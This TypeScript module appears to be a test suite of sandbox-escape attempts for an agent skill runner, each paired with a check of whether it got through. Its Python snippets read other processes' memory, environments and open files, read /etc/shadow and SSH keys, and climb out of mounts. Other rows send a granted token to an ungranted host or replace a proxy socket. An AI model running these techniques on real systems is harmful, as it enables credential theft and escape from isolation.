/** Other processes, their memory and their open files. */

import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import { join } from 'node:path';
import { type Attempt, isReceived, type Proof, printsSecret, printsThrough } from '../row.ts';
import type { EscapeWorld } from '../world.ts';

// Proofs that look at the host's own files after an attempt.

/** A path below the world's folder exists; with a pattern, as a file whose text matches. */
export function leaves(path: string, pattern?: RegExp): Proof {
  return outside((world) => join(world.folder, path), pattern);
}

/** A path of the host exists; with a pattern, as a file whose text matches. */
function outside(pathOf: (world: EscapeWorld) => string, pattern?: RegExp): Proof {
  return ({ world }) => {
    const path = pathOf(world);
    const found = fs.lstatSync(path, { throwIfNoEntry: false });
    if (found === undefined || pattern === undefined) return found !== undefined;
    return found.isFile() && pattern.test(fs.readFileSync(path, 'utf8'));
  };
}

/** A path below the workspace has at least one of these mode bits. */
export function leavesBits(path: string, bits: number): Proof {
  return ({ world }) =>
    ((fs.lstatSync(join(world.workspace, path), { throwIfNoEntry: false })?.mode ?? 0) & bits) !==
    0;
}

/** Any name below the workspace matches. An attempt may have closed a folder to its owner. */
export function leavesName(pattern: RegExp): Proof {
  return ({ world }) => {
    spawnSync('/bin/chmod', ['-R', 'u+rwX', '--', world.workspace]);
    return fs
      .readdirSync(world.workspace, { recursive: true, encoding: 'utf8' })
      .some((name) => pattern.test(name));
  };
}

/** A path below the world's folder no longer exists. */
export function removes(path: string): Proof {
  return ({ world }) => !fs.existsSync(join(world.folder, path));
}

const memory = { wants: 'the memory of another process', proof: printsSecret } as const;

// The stack of a process ends with its arguments and its environment.
const stackOf = (pid: string): string =>
  `line = [l for l in open('/proc/%s/maps' % ${pid}) if '[stack]' in l][0]; low, high = [int(x, 16) for x in line.split()[0].split('-')]`;

export const processRows: readonly Attempt[] = [
  {
    name: 'attach to a process of the host',
    wants: 'control of that process',
    proof: printsThrough,
    code: `call('ptrace', 0x4206, victim, 0, 0); won()`,
  },
  {
    name: 'attach to its own parent',
    wants: 'control of that process',
    proof: printsThrough,
    code: `call('ptrace', 0x4206, os.getppid(), 0, 0); won()`,
  },
  {
    ...memory,
    name: 'copy the memory of a process of the host',
    code: `${stackOf('victim')}; size = min(high - low, 65536); out = ctypes.create_string_buffer(size)
class Part(ctypes.Structure): _fields_ = [('at', PTR), ('size', ctypes.c_size_t)]
call('process_vm_readv', victim, ctypes.byref(Part(ctypes.addressof(out), size)), 1, ctypes.byref(Part(high - size, size)), 1, 0)
print(re.findall(rb'KEY-[0-9a-f]+', out.raw))`,
  },
  {
    ...memory,
    name: 'read the memory file of a process of the host',
    code: `${stackOf('victim')}; f = open('/proc/%d/mem' % victim, 'rb', 0); f.seek(high - 65536); print(re.findall(rb'KEY-[0-9a-f]+', f.read(65536)))`,
  },
  {
    ...memory,
    name: 'read the memory file of process 1',
    as: 'root',
    code: `${stackOf('1')}; f = open('/proc/1/mem', 'rb', 0); f.seek(high - 65536); print(re.findall(rb'KEY-[0-9a-f]+', f.read(65536)))`,
  },
  {
    name: 'write into the memory of process 1',
    wants: 'code that outlives the runner',
    as: 'root',
    proof: printsThrough,
    code: `open('/proc/1/mem', 'r+b', 0); won()`,
  },
  {
    ...memory,
    name: 'search its own memory for leftovers of the host',
    code: `for line in open('/proc/self/maps'):
    low, high = [int(x, 16) for x in line.split()[0].split('-')]
    if '[stack]' not in line and '[heap]' not in line: continue
    f = open('/proc/self/mem', 'rb', 0); f.seek(low)
    print(set(re.findall(rb'KEY-[0-9a-f]{24}', f.read(high - low))))`,
  },
  {
    name: 'read the environment of process 1',
    wants: 'the runner’s variables',
    as: 'root',
    proof: printsSecret,
    code: `print(re.findall('KEY-[0-9a-f]{24}', open('/proc/1/environ').read()))`,
  },
  {
    name: 'read its own environment',
    wants: 'the runner’s variables',
    proof: printsSecret,
    program: 'sh',
    code: 'set',
    ends: true,
  },
  {
    name: 'read the environment of every process',
    wants: 'the variables of other programs',
    proof: printsSecret,
    code: `for n in filter(str.isdigit, os.listdir('/proc')):
    try: found = re.findall('KEY-[0-9a-f]{24}', open('/proc/%s/environ' % n).read())
    except (OSError, ValueError): continue
    if found: print(found)`,
  },
  {
    name: 'read the arguments of every process',
    wants: 'secrets that were given as arguments',
    proof: printsSecret,
    code: `for n in filter(str.isdigit, os.listdir('/proc')):
    try: found = re.findall('KEY-[0-9a-f]{24}', open('/proc/%s/cmdline' % n).read())
    except (OSError, ValueError): continue
    if found: print(found)`,
  },
  {
    name: 'see a process of the host',
    wants: 'the list of the host’s programs',
    proof: printsThrough,
    code: `won(b'skillgate-escape' in open('/proc/%d/cmdline' % victim, 'rb').read())`,
  },
  {
    name: 'signal a process of the host',
    wants: 'the end of that process',
    proof: leaves('home/signalled'),
    code: `os.kill(victim, signal.SIGUSR1); time.sleep(0.2)`,
  },
  {
    name: 'take an open file from a process of the host',
    wants: 'the open files of that process',
    proof: printsSecret,
    code: `fd = call('pidfd_getfd', os.pidfd_open(victim), victimFile, 0); print(os.pread(fd, 99, 0))`,
  },
  {
    name: 'open a file by another process’s descriptor',
    wants: 'the open files of that process',
    proof: printsSecret,
    code: `print(open('/proc/%d/fd/%d' % (victim, victimFile)).read())`,
  },
  {
    name: 'find descriptors that the runner left open',
    wants: 'files and sockets of the runner',
    proof: printsThrough,
    code: `found = [os.readlink('/proc/self/fd/%d' % n) for n in inherited]; print(found); won(any(one != '/dev/null' for one in found))`,
  },
  {
    name: 'read System V shared memory of the host',
    wants: 'the memory of another process',
    proof: printsSecret,
    code: `libc.shmat.restype = PTR; at = libc.shmat(sharedMemory, None, 0o10000); print(ctypes.string_at(at, 64) if at not in (None, 2**64 - 1) else os.strerror(ctypes.get_errno()))`,
  },
  {
    name: 'protect itself from the out-of-memory killer',
    wants: 'the end of other processes in its place',
    as: 'root',
    proof: printsThrough,
    code: `os.write(os.open('/proc/self/oom_score_adj', os.O_WRONLY), b'-1000'); won()`,
  },
  {
    name: 'raise its own priority',
    wants: 'more processor time than others',
    as: 'root',
    proof: printsThrough,
    code: `os.nice(-10); won()`,
  },
  {
    name: 'leave its memory as a core file in a mount',
    wants: 'secrets of a run on the host’s disk',
    proof: leavesName(/^core/),
    seconds: 6,
    code: `pid = os.fork()
if pid == 0:
    os.chdir(mount); resource.setrlimit(resource.RLIMIT_CORE, (64 << 20, 64 << 20)); os.abort()
os.waitpid(pid, 0)`,
  },
  {
    name: 'ask an SSH agent for a signature',
    wants: 'signatures with the user’s keys',
    proof: isReceived,
    code: `tell(os.environ.get('SSH_AUTH_SOCK', folder + '/agent.sock'), socket.AF_UNIX)`,
  },
  {
    name: 'read the value of a secret from its own environment',
    wants: 'the secret',
    proof: printsSecret,
    code: `print(os.environ['CRM_TOKEN'])`,
  },
];

// Files of the host, by every path that could lead to them.

const read = { wants: 'a file of the host', proof: printsSecret } as const;

export const filesystemRows: readonly Attempt[] = [
  { ...read, name: 'read a file by its absolute path', code: 'print(open(canary).read())' },
  {
    ...read,
    name: 'read a file through /proc/self/root',
    code: `print(open('/proc/self/root' + canary).read())`,
  },
  {
    ...read,
    name: 'read a file through the root of process 1',
    as: 'root',
    code: `print(open('/proc/1/root' + canary).read())`,
  },
  {
    ...read,
    name: 'read a file through the working folder of process 1',
    as: 'root',
    code: `print(open('/proc/1/cwd/canary.txt').read())`,
  },
  {
    ...read,
    name: 'read a file through the root of a process of the host',
    code: `print(open('/proc/%d/root%s' % (victim, canary)).read())`,
  },
  {
    ...read,
    name: 'read a file through the working folder of a process of the host',
    code: `print(open('/proc/%d/cwd/canary.txt' % victim).read())`,
  },
  {
    ...read,
    name: 'read a file through a link made in a mount',
    code: `os.symlink(canary, mount + '/l1'); print(open(mount + '/l1').read())`,
  },
  {
    ...read,
    name: 'climb out of a mount with dots',
    code: `print(open(mount + '/../canary.txt').read())`,
  },
  {
    ...read,
    name: 'climb out of a mount with a relative link',
    code: `os.symlink('../canary.txt', mount + '/l2'); print(open(mount + '/l2').read())`,
  },
  {
    ...read,
    name: 'climb out of a mount from an open folder that is moved',
    code: `os.makedirs(mount + '/m1/m2'); d = os.open(mount + '/m1/m2', os.O_RDONLY); os.rename(mount + '/m1/m2', mount + '/m2')
print(os.read(os.open('../../canary.txt', os.O_RDONLY, dir_fd=d) if os.path.exists('/proc/self/fd/%d/../../canary.txt' % d) else os.open('../../../canary.txt', os.O_RDONLY, dir_fd=d), 99))`,
  },
  {
    ...read,
    name: 'read the user’s SSH key',
    code: `print(open(folder + '/home/.ssh/id_ed25519').read())`,
  },
  {
    ...read,
    name: 'read the folder of another skill',
    code: `print(open(folder + '/skills/other/SKILL.md').read())`,
  },
  {
    ...read,
    name: 'read the cache of verified files',
    code: `print(open(folder + '/skills/blob').read())`,
  },
  {
    ...read,
    name: 'read shared memory of the host',
    code: `print(open('/dev/shm/skillgate-' + word).read())`,
  },
  {
    name: 'read the password file',
    wants: 'the hashes of the users’ passwords',
    as: 'root',
    proof: printsThrough,
    code: `won(len(open('/etc/shadow').read()) > 0)`,
  },
  {
    name: 'read the identity of the machine in /etc',
    wants: 'the identity of the host',
    proof: printsThrough,
    code: `won(len(open('/etc/machine-id').read() if os.path.exists('/etc/machine-id') else open('/etc/hostname').read()) > 0)`,
  },
  {
    name: 'connect to a container engine’s socket',
    wants: 'root on the host',
    proof: isReceived,
    code: `tell(folder + '/docker.sock', socket.AF_UNIX)`,
  },
  {
    name: 'change a file of the skill',
    wants: 'other code at the next start',
    proof: outside((world) => `${world.folder}/probe/probe.py`, /changed by an attempt/),
    code: `open(skill + '/probe.py', 'a').write('# changed by an attempt')`,
  },
  {
    name: 'add a file to the skill',
    wants: 'other code at the next start',
    proof: printsThrough,
    code: `open(skill + '/new', 'w').close(); won()`,
  },
  {
    name: 'make a program in /usr/bin',
    wants: 'changed programs for every user',
    as: 'root',
    proof: printsThrough,
    // A file without a name, so that the bare twin leaves no file.
    code: `os.close(os.open('/usr/bin', os.O_TMPFILE | os.O_RDWR, 0o600)); won()`,
  },
  {
    name: 'write to the system’s libraries',
    wants: 'changed programs for every user',
    as: 'root',
    proof: printsThrough,
    code: `os.close(os.open('/usr/lib/x86_64-linux-gnu' if os.path.exists('/usr/lib/x86_64-linux-gnu') else '/usr/lib/aarch64-linux-gnu', os.O_TMPFILE | os.O_RDWR, 0o600)); won()`,
  },
  {
    name: 'write to a read-only mount',
    wants: 'a change to a read-only file',
    proof: leaves('library/read.txt', /written/),
    code: `open(library + '/read.txt', 'w').write('written')`,
  },
  {
    name: 'make a read-only file writable',
    wants: 'a change to a read-only file',
    proof: printsThrough,
    code: `os.chmod(library + '/read.txt', 0o666); won()`,
  },
];

// The granted secret, used elsewhere than at the host that it is bound to. Without a sandbox the
// variable contains the value itself, as for most agents.

const use = { wants: 'the secret at a place of the attacker’s choice', proof: isReceived } as const;
const back = { wants: 'the value of the secret', proof: printsSecret } as const;
const key = `key = os.environ['CRM_TOKEN']`;

// Python that decodes each answer.
const echoes: Readonly<Record<string, string>> = {
  echo: 'body',
  'echo-header': 'body',
  'echo-base64': 'base64.b64decode(body)',
  'echo-base64-shifted': 'base64.b64decode(body)',
  'echo-hex': 'bytes.fromhex(body.decode())',
  'echo-url': '__import__("urllib.parse").parse.unquote(body.decode())',
  'echo-json': 'json.loads(body)',
  'echo-gzip': '__import__("zlib").decompress(body, 47)',
  'echo-parts': 'body',
};

export const secretRows: readonly Attempt[] = [
  {
    ...use,
    name: 'the secret in the path',
    code: `${key}; get('http://api.crm.example/v2/%s/%s' % (token, key))`,
  },
  {
    ...use,
    name: 'the secret in the query',
    code: `${key}; get('http://api.crm.example/v2/%s?key=%s' % (token, key))`,
  },
  {
    ...use,
    name: 'the secret in the body',
    code: `${key}; get('http://api.crm.example/v2/x', method='POST', body=token + key)`,
  },
  {
    ...use,
    name: 'the secret in another header',
    code: `${key}; get('http://api.crm.example/v2/' + token, headers='X-Key: %s\\n' % key)`,
  },
  {
    ...use,
    name: 'the secret in the name of a header',
    code: `${key}; get('http://api.crm.example/v2/' + token, headers='X-%s: a\\n' % key)`,
  },
  {
    ...use,
    name: 'the secret twice in its header',
    code: `${key}; get('http://api.crm.example/v2/' + token, headers='Authorization: Bearer %s%s\\n' % (key, key))`,
  },
  {
    ...use,
    name: 'the secret as another kind of authorization',
    code: `${key}; get('http://api.crm.example/v2/' + token, headers='Authorization: Basic %s\\n' % key)`,
  },
  {
    ...use,
    name: 'the secret in a request to a host that was not granted',
    code: `${key}; get('http://elsewhere.example/v2/' + token, headers='Authorization: Bearer %s\\n' % key)`,
  },
  {
    ...use,
    name: 'the secret in a header for the proxy',
    code: `${key}; get('http://api.crm.example/v2/' + token, headers='Proxy-Authorization: Bearer %s\\n' % key)`,
  },
  ...Object.entries(echoes).map(
    ([path, read]): Attempt => ({
      ...back,
      name: `a host that sends the secret back: ${path}`,
      code: `${key}; body = ask('/v2/${path}', {'Authorization': 'Bearer ' + key}); print(${read})`,
    }),
  ),
  {
    name: 'replace the proxy’s socket',
    wants: 'the requests of other skills, with their secrets',
    proof: removes('other-proxy.sock'),
    as: 'root',
    code: `found = [os.path.join(d, n) for top in ('/proxy', '/run/skillgate', folder) for d, _, names in os.walk(top) for n in names if n.endswith('proxy.sock')]
print(found); os.remove(folder + '/other-proxy.sock' if not found else found[0])`,
  },
];
